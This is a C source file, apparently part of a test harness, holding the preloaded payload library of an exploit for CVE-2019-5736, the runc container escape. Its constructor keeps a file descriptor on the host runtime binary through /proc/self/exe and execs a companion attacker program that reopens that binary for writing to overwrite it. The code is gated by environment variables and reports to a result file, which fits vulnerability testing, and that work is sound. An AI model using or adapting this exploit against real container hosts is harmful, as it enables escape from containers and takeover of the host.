/* cve-payload.so: the malicious library of the CVE-2019-5736 exploit, LD_PRELOADed into a runtime tricked into running in a container. */
/*
 * When the container's entrypoint is `#!/proc/self/exe`, the kernel runs whatever /proc/self/exe
 * of the runtime process is. If that is the host's runtime binary, this constructor holds an O_PATH
 * fd on it across an execve of cve-attacker, which reopens it for writing once the runtime has gone.
 * Inert unless CVE_ATTACKER, CVE_TARGET and CVE_RESULT are all set.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void cve_payload(void)
{
        const char *attacker = getenv("CVE_ATTACKER");
        const char *target = getenv("CVE_TARGET");
        const char *result = getenv("CVE_RESULT");
        const char *seconds = getenv("CVE_SECONDS");
        if (!attacker || !target || !result)
                return;
        /* No O_CLOEXEC: the fd must survive into cve-attacker. */
        int fd = open("/proc/self/exe", O_PATH);
        if (fd < 0) {
                FILE *f = fopen(result, "we");
                if (f) {
                        fprintf(f, "write=EOPEN\noverwritten=0\n");
                        fclose(f);
                }
                _exit(0);
        }
        char fd_text[16];
        snprintf(fd_text, sizeof(fd_text), "%d", fd);
        char *argv[] = {(char *)attacker, "reopen", fd_text, (char *)target, (char *)(seconds ? seconds : "3"),
                        (char *)result, NULL};
        execve(attacker, argv, environ);
        _exit(127);
}
